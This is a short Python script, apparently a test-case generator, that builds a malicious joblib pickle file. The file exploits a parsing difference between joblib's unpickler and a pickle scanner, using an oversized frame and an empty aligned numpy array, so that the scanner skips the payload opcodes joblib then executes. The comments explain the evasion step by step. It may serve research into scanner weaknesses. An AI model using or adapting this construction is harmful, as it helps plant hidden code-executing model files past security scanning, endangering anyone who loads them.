from common import *
# A FRAME longer than the rest of the file. CPython's pure-Python unpickler (joblib's) reads
# the whole rest of the file into the frame without complaint; the scanner only notes it and
# keeps no frame. Inside it, an EMPTY uint8 array with alignment 16: joblib's read_array reads
# its padding byte from the FILE, which is at EOF (b'' -> 0), reads 0 bytes and goes on inside
# the frame; the scanner takes the byte after the BUILD ('0' = 48) as the padding length and
# skips 49 bytes, over the POP + payload + STOP that joblib runs.
def wr_al(n, align):
    return G('joblib.numpy_pickle','NumpyArrayWrapper')+b'('+G('numpy','ndarray')+I(n)+b'\x85'+U('C')+dtype('u1')+b'\x89'+align+b'tR}b'
tail = b'0' + PAYLOAD + b'.'
assert len(tail) == 30
framed = wr_al(0, b'K\x10') + tail + b'\x00' * (49 - len(tail)) + b'N.'
rest = b'\x95' + struct.pack('<Q', len(framed) + 100) + framed
# a first genuine 5-byte array whose bytes are a BINSTRING header over the rest (plain pass)
run('b14.joblib', b'\x80\x04' + wr_al(5, b'N') + T(len(rest) - 1) + rest)
